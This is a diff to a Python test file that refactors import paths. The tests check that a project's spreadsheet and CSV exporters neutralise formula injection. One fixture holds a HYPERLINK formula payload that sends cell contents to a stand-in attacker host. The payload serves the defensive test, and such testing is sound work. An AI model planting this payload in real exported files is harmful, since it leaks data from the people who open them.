@@ -4,7 +4,7 @@ A value such as ``=HYPERLINK("http://…","GP")`` (a licensed company's name, a 
 refused cell) is put where each writer takes user text; the file that comes out is then read
 back: in an XLSX no cell is a formula and there is no hyperlink, and the text is kept exactly; in
 a CSV no field starts with ``=``, ``+``, ``-`` or ``@`` (the text is kept after an apostrophe).
-A last test searches the code for a writer that does not go through :mod:`xkld_geo.sheets`.
+A last test searches the code for a writer that does not go through :mod:`xkld_geo.text.sheets`.
 """
 from __future__ import annotations
 
@@ -19,13 +19,15 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from xkld_geo import auth, export, references, sheets
+from xkld_geo.access import auth
+from xkld_geo.figures import export, references
 from xkld_geo.intake import ingest, kinds
-from xkld_geo.markup import FORMULA_START
 from xkld_geo.planning import annex, plans
 from xkld_geo.release import site as release_site
 from xkld_geo.reporting import emulation
 from xkld_geo.settings import PROJECT_ROOT, Settings
+from xkld_geo.text import sheets
+from xkld_geo.text.markup import FORMULA_START
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"GP")'
 OTHERS = ("+1+1", "-2+3", "@SUM(A1:A9)")
@@ -135,7 +137,7 @@ WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|xlsxwriter\.Workboo
 
 
 def test_no_writer_outside_the_one_module() -> None:
-    """Every spreadsheet or CSV is written by xkld_geo.sheets: a new ``to_csv`` elsewhere fails here."""
+    """Every spreadsheet or CSV is written by xkld_geo.text.sheets: a new ``to_csv`` elsewhere fails here."""
     strays = []
     for path in sorted((PROJECT_ROOT / "xkld_geo").rglob("*.py")) + sorted((PROJECT_ROOT / "pages").glob("*.py")):
         if path.name == "sheets.py":
